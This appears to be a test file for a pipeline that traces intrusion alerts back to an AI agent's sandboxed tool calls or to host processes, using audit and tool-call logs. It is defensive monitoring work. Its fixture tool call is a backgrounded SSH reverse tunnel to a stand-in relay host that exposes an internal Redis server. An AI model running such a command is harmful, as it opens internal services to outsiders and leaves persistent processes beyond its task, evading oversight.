import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, expect, it } from 'vitest';
import type { Attribution } from '../../src/model/attribution.ts';
import { investigate } from '../../src/pipeline.ts';
import { audit, LEASE } from './one-sandbox.ts';

const folder = mkdtempSync(join(tmpdir(), 'owners-'));
afterAll(() => rmSync(folder, { recursive: true }));

const COMMAND = 'nohup ssh -N -R 41011:10.77.0.6:6379 tun@relay.example >/dev/null 2>&1 &';
const CALL = {
  episode_id: 'ep-1',
  sandbox_id: 'sb-1',
  tool: 'bash',
  tool_call_id: 'call-1',
  command: COMMAND,
  start: '2026-11-23T17:00:01.000Z',
  end: '2026-11-23T17:00:02.000Z',
};
/** Put right by hand: two logs of a few lines have too few pairs. */
const CLOCKS = new Map([
  ['fast.log', 0],
  ['train-01-audit.log', 0],
]);
const AT = 1_795_453_264;

/** The host's own collector, and the tunnel that a call left behind long ago, connect to one place. */
async function blame(name: string, times: { readonly host: number; readonly tunnel: number }): Promise<Attribution> {
  mkdirSync(join(folder, name));
  const rows = {
    'leases.jsonl': [JSON.stringify(LEASE)],
    'tool_calls.jsonl': [JSON.stringify(CALL)],
    'fast.log': [
      '11/23/2026-17:01:04.002000  [**] [1:9000009:1] SCAN connection attempts to internal services [**] [Classification: Leak] [Priority: 2] {TCP} 10.70.0.11:59006 -> 10.77.0.6:6379',
    ],
    'train-01-audit.log': [
      ...audit({ at: AT - 62.9, pid: 300, ppid: 100, uid: 20_004, args: ['bash', '-c', COMMAND] }),
      ...audit({ at: AT - 0.1, pid: 400, ppid: 50, uid: 20_101, args: ['nc', '10.77.0.6', '6379'] }),
      ...audit({ at: AT + times.host, pid: 400, ppid: 50, uid: 20_101 }),
      ...audit({ at: AT + times.tunnel, pid: 300, ppid: 100, uid: 20_004 }),
    ],
  };
  for (const [file, lines] of Object.entries(rows)) writeFileSync(join(folder, name, file), `${lines.join('\n')}\n`);
  const { attributions } = await investigate({ paths: [join(folder, name)], cwd: folder, clockOffsets: CLOCKS });
  expect(attributions).toHaveLength(1);
  return attributions[0] as Attribution;
}

it('takes the host process that connected at the moment, not the one in a sandbox that did later', async () => {
  const answer = await blame('host', { host: 0, tunnel: 0.3 });
  expect(answer.process?.pid ?? answer.candidates[0]?.process?.pid).toBe(400);
  expect(answer.episode).toBeUndefined();
});

it('takes the process that connected at the moment, not one that names the place and did so later', async () => {
  const answer = await blame('tunnel', { host: 0.3, tunnel: 0 });
  expect(answer).toMatchObject({ process: { pid: 300 }, toolCall: { id: 'call-1' } });
});

it('does not clear the agent for a host process that names the place and connected at another time', async () => {
  const answer = await blame('elsewhere', { host: 5, tunnel: 9 });
  expect(answer.process?.pid).not.toBe(400);
  expect(answer.verdict).not.toBe('not-agent');
});
